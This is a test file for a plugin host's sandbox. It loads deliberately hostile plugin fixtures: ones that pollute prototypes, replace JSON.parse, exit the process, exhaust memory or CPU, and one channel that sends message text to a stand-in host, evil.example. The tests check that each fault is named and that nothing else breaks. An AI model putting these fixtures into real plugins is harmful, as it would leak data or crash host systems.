/** Plugins that mean harm or know no better: each is named with its reason, the others work, and no hook is lost. */
import { cpSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';

import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { exampleEvent as event, exampleFacts } from '../sdk/testing/example.ts';
import { eventually, TestProduct } from '../testing/product.ts';
import { type Host } from './host.ts';
import { memoryStates } from './standings.ts';
import { actionSource, channelSource, conditionSource, pluginFolder, testHost } from './testing.ts';

/** What is wrong with each, by its folder: the reason that is shown when it is loaded. */
const AT_LOAD: Record<string, [source: string, reason: RegExp]> = {
  'conditions/throws': [`throw new Error('no config');`, /could not be loaded: no config/u],
  'conditions/throws-nothing': [`throw undefined;`, /could not be loaded: undefined/u],
  'conditions/hangs': [`await new Promise(() => {});\n${conditionSource('hangs')}`, /did not load within/u],
  'conditions/rubbish': [`export default 42;`, /default export/u],
  'conditions/wrong-id': [conditionSource('somebody-else'), /id must be "wrong-id"/u],
  'actions/wrong-kind': [conditionSource('wrong-kind'), /kind must be "action"/u],
  'conditions/wrong-api': [conditionSource('wrong-api', { api: '2' }), /api must be 1/u],
  'conditions/extends-all': [`Object.prototype.evil = 1;\n${conditionSource('extends-all')}`, /changes Object\.prototype\.evil/u],
  'conditions/replaces-map': [`Array.prototype.map = () => [];\n${conditionSource('replaces-map')}`, /changes Array\.prototype\.map/u],
  'conditions/own-proxy': [`export default new Proxy({}, { get() { throw { toString() { throw 1; } }; } });`, /cannot be shown/u],
};

/** Their load would take the process along that does it. */
const APART: Record<string, string> = {
  'conditions/exits': 'process.exit(0);',
  'conditions/eats-at-once': 'const eaten = []; for (;;) eaten.push(new Array(1_000_000).fill(eaten.length + 0.5));',
};

/** What is wrong with each when it is asked: the fault that is shown. */
const AT_CALL: Record<string, [test: string, fault: RegExp]> = {
  maybe: [`() => 'perhaps'`, /must answer true, false/u],
  'rejects-oddly': [`async () => { throw { toString() { throw 1; } }; }`, /cannot be shown/u],
  'rejects-null': [`() => Promise.reject(null)`, /null/u],
  late: [`() => new Promise((resolve) => setTimeout(() => resolve(true), 60_000).unref())`, /hung/u],
  'writes-facts': [`(input, event, { facts }) => { facts.lead.price = 0; return true; }`, /read only/u],
  'writes-event': [`(input, event) => { event.data.text = 'pay me'; return true; }`, /read only/u],
  'writes-input': [`(input) => { input.own = 1; return true; }`, /not extensible/u],
  'changes-json': [`() => { JSON.parse = () => ({ evil: true }); return true; }`, /changed JSON\.parse/u],
  'changes-all': [`() => { Object.prototype.holds = true; return true; }`, /changed Object\.prototype\.holds/u],
};

const facts = exampleFacts();

describe('in a worker of its own', () => {
  const folder = pluginFolder();
  let host: Host;
  const stateOf = (id: string) => host.list().find((plugin) => plugin.id === id);
  const fine = () => host.test('a', 'fine', {}, event, facts);

  beforeAll(async () => {
    for (const [name, [source]] of Object.entries(AT_LOAD)) folder.write(name, source);
    for (const [id, [test]] of Object.entries(AT_CALL)) folder.write(`conditions/${id}`, conditionSource(id, { test }));
    folder.write('conditions/fine', conditionSource('fine'));
    folder.write(
      'actions/floods',
      actionSource('floods', { run: `async (i, e, ctx) => { for (let n = 0; n < 10_000; n++) ctx.enqueue({ kind: 'pause', minutes: n }); }` }),
    );
    folder.write(
      'channels/strays',
      channelSource('strays', { hosts: `['api.example.com']`, send: `async (m, ctx) => ctx.fetch('https://evil.example/?text=' + m.text)` }),
    );
    ({ host } = testHost(folder.dir, { states: memoryStates({ strays: { hosts: ['api.example.com'] } }), loadDeadlineMs: 1_000 }));
    await host.load();
  });
  afterAll(() => folder.remove());

  it.each(Object.entries(AT_LOAD).map(([name, [, reason]]) => [name.split('/')[1] ?? '', reason] as const))('%s is named at load', async (id, reason) => {
    expect(stateOf(id)).toMatchObject({ state: 'failed', reason: expect.stringMatching(reason) });
    expect(await fine()).toEqual({ holds: true });
  });

  it.each(Object.entries(AT_CALL).map(([id, [, fault]]) => [id, fault] as const))('%s is named when it is asked', async (id, fault) => {
    for (let time = 0; time < 2; time++)
      await expect(host.test('a', id, {}, event, facts)).rejects.toMatchObject({ name: 'PluginError', pluginId: id, message: expect.stringMatching(fault) });
    expect(await fine()).toEqual({ holds: true });
  });

  it('leaves everything as it was', () => {
    expect(({} as { evil?: unknown; holds?: unknown }).evil ?? ({} as { holds?: unknown }).holds).toBeUndefined();
    expect([1].map((one) => one + 1)).toEqual([2]);
    expect(JSON.parse('1')).toBe(1);
    expect([facts.lead?.price, event.data.text]).toEqual([1_200, 'Hello, how much is delivery?']);
  });

  it('a flood of effects ends at the twentieth', async () => {
    await expect(host.act('a', 'floods', {}, event, { facts, key: 'k' })).rejects.toMatchObject({ name: 'PluginError', message: /at most 20/u });
  });

  it('a host nobody was told of stays out of reach', async () => {
    await expect(host.send('a', 'strays', { key: 'k', talk: 'talk:1', text: 'x', firstTriedAt: new Date() })).rejects.toMatchObject({ code: 'forbidden' });
  });
});

describe('in the whole product', () => {
  let root: string;
  let product: TestProduct;
  const SDK = 'souffleur/sdk';
  const write = (name: string, source: string): void => {
    mkdirSync(`${root}/plugins/${name}`, { recursive: true });
    writeFileSync(
      `${root}/plugins/${name}/index.ts`,
      `import { z } from 'zod';\nimport { definePlugin, Refuse, Retry } from '${SDK}';\nvoid [z, definePlugin, Refuse, Retry];\n${source}`,
    );
  };
  const listed = async (id: string) => (await product.api('GET', '/plugins')).body.items.find((plugin: { id: string }) => plugin.id === id);
  const tried = async (id: string) => (await product.api('POST', `/plugins/${id}/test`, {})).body;
  const hook = () => product.hook(`leads[update][0][id]=${product.leads[0]?.id}&account[id]=1`);

  beforeAll(async () => {
    // A copy inside the repository, where the packages are found, with plugins of its own.
    const ours = fileURLToPath(new URL('../..', import.meta.url));
    mkdirSync(`${ours}/dist`, { recursive: true });
    root = mkdtempSync(`${ours}/dist/hostile-`);
    for (const name of ['server', 'migrations', 'package.json', 'plugins/crm/kommo', 'plugins/channels/kommo-talks'])
      cpSync(`${ours}/${name}`, `${root}/${name}`, { recursive: true, filter: (path) => !path.endsWith('.test.ts') });
    for (const [name, [source]] of Object.entries(AT_LOAD)) write(name, source);
    for (const [name, before] of Object.entries(APART)) write(name, `${before}\n${conditionSource(name.split('/')[1] ?? '')}`);
    for (const [id, [test]] of Object.entries(AT_CALL)) write(`conditions/${id}`, conditionSource(id, { test }));
    write('conditions/fine', conditionSource('fine'));
    // Nothing in this loop heeds the end of its thread.
    write('conditions/spins', conditionSource('spins', { test: '() => { for (;;) Array(1_000).fill(1); }' }));
    write(
      'conditions/eats',
      conditionSource('eats', { test: '() => { const eaten = []; for (;;) eaten.push({ n: eaten.length, text: String(eaten.length).repeat(50) }); }' }),
    );
    product = await TestProduct.start(undefined, { main: `${root}/server/main.ts` });
  }, 90_000);
  afterAll(async () => {
    await product.stop();
    rmSync(root, { recursive: true, force: true });
  }, 30_000);

  it('every one is named, and the good ones work', async () => {
    for (const [name, [, reason]] of Object.entries(AT_LOAD))
      expect(await listed(name.split('/')[1] ?? '')).toMatchObject({ state: 'failed', reason: expect.stringMatching(reason) });
    for (const name of Object.keys(APART))
      expect(await listed(name.split('/')[1] ?? '')).toMatchObject({ state: 'failed', reason: expect.stringMatching(/ends the process|more memory/u) });
    expect(await listed('kommo')).toMatchObject({ state: 'loaded', enabled: true });
    expect(await tried('fine')).toMatchObject({ code: 'ok', answer: { holds: true } });
    expect(await hook()).toBe(200);
  });

  it.each(['maybe', 'rejects-oddly', 'writes-event', 'changes-json'])('%s shows its fault', async (id) => {
    const [, fault] = AT_CALL[id] ?? [];
    expect(await tried(id)).toMatchObject({ code: 'failed', message: expect.stringMatching(fault ?? /./u) });
    const [newest] = await eventually('the fault', async () => ((await listed(id)).faults.length > 0 ? (await listed(id)).faults : undefined));
    expect(newest).toMatchObject({ call: 'test', message: expect.stringMatching(fault ?? /./u) });
  });

  it.each(['eats', 'spins'])(
    '%s costs the worker, never a hook',
    async (id) => {
      const asked = tried(id);
      const answers: Promise<number>[] = [];
      for (let time = 0; time < 20; time++) {
        answers.push(hook());
        await new Promise((resolve) => setTimeout(resolve, 500));
      }
      expect(new Set(await Promise.all(answers))).toEqual(new Set([200]));
      expect(await asked).toMatchObject({ code: 'no_answer' });
      await eventually('a worker again', async () => (await tried('fine')).code === 'ok', 60_000);
      await eventually('the hooks', async () => (await product.api('GET', '/hook-events?state=received&limit=1')).body.items.length === 0, 60_000);
    },
    150_000,
  );
});
